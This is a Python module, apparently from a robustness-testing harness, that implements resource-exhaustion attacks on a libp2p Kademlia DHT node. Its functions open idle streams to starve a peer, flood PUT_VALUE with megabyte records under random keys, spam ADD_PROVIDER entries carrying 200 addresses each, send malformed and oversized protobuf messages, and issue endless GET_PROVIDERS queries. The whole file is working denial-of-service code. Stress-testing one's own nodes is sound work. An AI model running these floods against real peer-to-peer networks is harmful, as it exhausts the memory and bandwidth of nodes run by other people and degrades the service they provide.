"""Attacks on the DHT, in bytes of their own (libp2p specs, kad-dht)."""

from __future__ import annotations

import os
from contextlib import suppress

from wire import Session, Stream, message
from wire.bits import ED25519, fields, read_varint, varint

from .target import FAILED, Target

PUT_VALUE, GET_VALUE, ADD_PROVIDER, GET_PROVIDERS, FIND_NODE, PING = range(6)


def _say(stream: Stream, question: bytes) -> None:
    stream.write(varint(len(question)) + question)


def _answer(stream: Stream) -> bytes:
    prefix = stream.read(1)
    while prefix[-1] >= 0x80:
        prefix += stream.read(1)
    return stream.read(read_varint(prefix)[0])


def _asked(session: Session, kad: str) -> bool:
    """Is a question answered?"""
    with suppress(*FAILED):
        stream = session.open(kad)
        _say(stream, message((1, FIND_NODE), (2, os.urandom(38))))
        return bool(_answer(stream))
    return False


def silent_streams(target: Target) -> None:
    """Streams on which nothing is asked, from one peer; and whether another is answered meanwhile."""
    target.saw["answered"] = 0

    def one(number: int) -> None:
        session, other = target.session(number), target.session(number + 1)
        with suppress(*FAILED):
            for each in (session, other):
                each.secure.line.patience(3.0)
            for _ in range(14):
                session.raw_stream()
            for stream in list(session.streams.values()):
                stream.write(b"\x13/multistream/1.0.0\n" + varint(len(target.kad) + 1) + target.kad.encode() + b"\n")
            for stream in list(session.streams.values()):
                with suppress(*FAILED):
                    stream.read(21)
            for _ in range(5):
                target.count("answered", _asked(other, target.kad))
        session.close()
        other.close()

    target.keep_on(one)


def values(target: Target) -> None:
    """A megabyte under any key, again and again."""
    target.saw["taken"] = 0

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(2.0)
        with suppress(*FAILED):
            for _ in range(30):
                stream = session.open(target.kad)
                key = os.urandom(16).hex().encode()
                record = message((1, key), (2, bytes((1 << 20) - 1000)))
                _say(stream, message((1, PUT_VALUE), (2, key), (3, record)))
                answer = fields(_answer(stream))
                target.count("taken", answer.get(2) == key)
                stream.close()
        session.close()

    target.keep_on(one)


def _own_id(session_key: bytes) -> bytes:
    raw = ED25519 + session_key
    return b"\x00" + varint(len(raw)) + raw


def providers(target: Target) -> None:
    """Provider records without end, each for another key and with many addresses, by one peer after another."""
    from wire import Peer

    addr = b"\x04\x7f\x00\x00\x01\x06\x03\xe8"

    def one(number: int) -> None:
        peer = Peer()
        session = peer.dial(target.addr, source=target.source(number))
        session.secure.line.patience(2.0)
        entry = message((1, _own_id(peer.key)), *[(2, addr)] * 200)
        with suppress(*FAILED):
            stream = session.open(target.kad)
            for _ in range(400):
                _say(stream, message((1, ADD_PROVIDER), (2, b"\x12\x20" + os.urandom(32)), (9, entry)))
                target.count("said")
        session.close()

    target.keep_on(one)


def undecodable(target: Target) -> None:
    """Questions that are no protobuf, of kinds that there are not, too long, and half."""
    bad = (
        b"\xff" * 100,
        message((1, 77)),
        message((1, FIND_NODE)) * 3000,
        message((1, GET_PROVIDERS), (2, bytes(60_000))),
        message((8, b"\xff" * 30), (1, FIND_NODE), (2, b"x")),
    )

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(0.5)
        for question in bad:
            with suppress(*FAILED):
                stream = session.open(target.kad)
                _say(stream, question)
                stream.write(varint(1 << 62))
                _answer(stream)
        session.close()

    target.keep_on(one)


def questions(target: Target) -> None:
    """Questions without end on as many streams as one is given."""

    def one(number: int) -> None:
        session = target.session(number)
        session.secure.line.patience(1.0)
        with suppress(*FAILED):
            streams = [session.open(target.kad) for _ in range(3)]
            target.on()
            while target.going():
                for stream in streams:
                    for _ in range(50):
                        _say(stream, message((1, GET_PROVIDERS), (2, b"\x12\x20" + os.urandom(32))))
                for stream in streams:
                    _answer(stream)
                    target.count("answers")
        session.close()

    target.keep_on(one)
